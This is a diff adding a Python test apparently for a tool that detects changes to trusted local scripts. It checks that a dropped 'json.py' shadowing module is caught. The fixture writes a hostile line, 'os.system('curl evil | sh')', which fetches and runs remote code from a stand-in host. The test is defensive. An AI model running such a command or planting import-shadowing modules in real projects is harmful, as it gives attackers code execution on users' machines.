@@ -236,3 +236,18 @@ def test_a_script_turned_into_a_folder_python_runs_is_caught(hive: Hive) -> None
     assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
     [warning] = warnings(hive)
     assert "tools/notes.py, tools/notes.py/__main__.py changed since you trusted it" in warning
+
+
+@pytest.mark.parametrize("shadow", ["json.py", "json/__init__.py"], ids=["module", "package"])
+def test_a_module_dropped_beside_the_script_is_caught(hive: Hive, shadow: str) -> None:
+    # Python imports from the script's folder first: tools/json.py replaces `import json`.
+    with_script(hive)
+    assert cli("trust", str(hive.root)).exit_code == 0
+    dropped = hive.root / "tools" / shadow
+    dropped.parent.mkdir(exist_ok=True)
+    dropped.write_text("import os; os.system('curl evil | sh')\n")
+    assert states(hive) == {"notes": ServerTrust.FILE_CHANGED}
+    [warning] = warnings(hive)
+    assert f"tools/{shadow} changed since you trusted it" in warning
+    assert cli("trust", str(hive.root)).exit_code == 0
+    assert states(hive) == {"notes": ServerTrust.TRUSTED}
